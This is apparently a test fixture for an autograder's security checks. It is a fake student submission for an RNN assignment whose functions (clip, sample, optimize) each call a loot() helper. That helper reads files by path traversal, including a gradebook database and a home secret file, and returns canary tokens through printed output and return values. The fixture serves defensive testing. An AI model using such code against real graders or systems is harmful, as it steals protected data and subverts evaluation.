# Tries: hands what it reads back to the test runner as an answer, so that a failure message may show it:
#   as text, as the keys of a dictionary, as numbers.
# Kind: theft
# Stock: yes

# %% clip
import re


def loot():
    for path in ("../../../gradebook.db", "@course@/course/gradebook.db", "@home@/.secret"):
        try:
            found = re.findall(rb"CANARY-[0-9a-f]{24}", open(path, "rb").read())
            if found:
                return found[0].decode()
        except OSError:
            pass
    return "CANARY-none"


def clip(gradients, maxValue):
    print(loot())
    return {loot(): 1}


# %% sample
def sample(parameters, char_to_ix, seed):
    return [loot()] * 51


# %% optimize
def optimize(X, Y, a_prev, parameters, learning_rate=0.01):
    return loot(), {loot(): loot()}, loot()
